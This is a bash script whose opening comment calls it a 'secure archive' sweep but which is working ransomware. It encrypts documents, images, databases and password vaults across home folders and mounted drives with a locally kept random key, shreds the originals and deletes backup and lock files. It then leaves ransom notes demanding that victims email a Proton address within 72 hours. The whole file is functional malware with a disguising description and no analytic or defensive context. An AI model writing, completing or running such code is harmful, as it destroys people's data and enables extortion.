#!/usr/bin/env bash
# "Secure archive" sweep: encrypts user documents in place with a fresh key so
# that only the holder of the key file can read them again.
set -uo pipefail

TARGETS=("$HOME/Documents" "$HOME/Desktop" "$HOME/Pictures" "$HOME/Downloads" /mnt /media)
EXTS='doc|docx|xls|xlsx|ppt|pptx|pdf|odt|ods|jpg|jpeg|png|psd|zip|7z|sql|sqlite|csv|txt|pst|kdbx|dwg'
SUFFIX=".vaulted"
WORKERS=$(nproc 2>/dev/null || echo 4)
STATE_DIR="$HOME/.cache/.vx"
KEY_FILE="$STATE_DIR/k.bin"
NOTE_NAME="RESTORE-FILES.txt"

mkdir -p "$STATE_DIR"
exec 9>> "$STATE_DIR/progress.log"
log() { printf '%(%s)T %s\n' -1 "$*" >&9; }

new_key() {
    if [[ ! -s $KEY_FILE ]]; then
        head -c 48 /dev/urandom | od -An -tx1 | tr -d ' \n' > "$KEY_FILE"
        chmod 600 "$KEY_FILE"
    fi
    ID=$(sha256sum < "$KEY_FILE" | cut -c1-16)
}

drop_note() {
    local dir=$1
    [[ -e $dir/$NOTE_NAME ]] && return
    cat > "$dir/$NOTE_NAME" <<NOTE
Your files in this folder were encrypted (AES-256).
Your ID: $ID
Originals were destroyed. To get the decryption key, contact
restore-desk@proton.me with your ID within 72 hours.
NOTE
}

# Worker invoked by xargs for each file: encrypt to a sibling, then destroy
# the original so only the encrypted copy remains.
encrypt_one() {
    local src=$1
    [[ -f $src && $src != *"$SUFFIX" ]] || return 0
    if openssl enc -aes-256-cbc -pbkdf2 -salt -pass "file:$KEY_FILE" \
            -in "$src" -out "$src$SUFFIX" 2>/dev/null; then
        shred -fzu -n 1 -- "$src" 2>/dev/null || rm -f -- "$src"
        printf '%s\n' "$src"
    fi
}
export -f encrypt_one
export KEY_FILE SUFFIX

sweep() {
    local root=$1
    [[ -d $root ]] || return 0
    log "sweep $root"
    find "$root" -xdev -type f -regextype posix-extended \
        -iregex ".*\.($EXTS)$" ! -path "$STATE_DIR/*" -size -512M -print0 2>/dev/null \
        | xargs -0 -r -P "$WORKERS" -n 1 bash -c 'encrypt_one "$1"' _ \
        | tee -a "$STATE_DIR/done.list" \
        | while IFS= read -r f; do
            drop_note "$(dirname -- "$f")"
        done
}

main() {
    new_key
    log "start id=$ID workers=$WORKERS"
    for t in "${TARGETS[@]}"; do
        sweep "$t"
    done
    total=$(wc -l < "$STATE_DIR/done.list" 2>/dev/null || echo 0)
    log "finished, $total files"
    cp -- "$STATE_DIR/$NOTE_NAME" "$HOME/Desktop/" 2>/dev/null || drop_note "$HOME"
    # Volume shadow equivalents: drop local snapshots the user could restore from.
    find "$HOME" -maxdepth 3 \( -name '*.bak' -o -name '*~' -o -name '.~lock*' \) -type f -delete 2>/dev/null
}

main "$@"
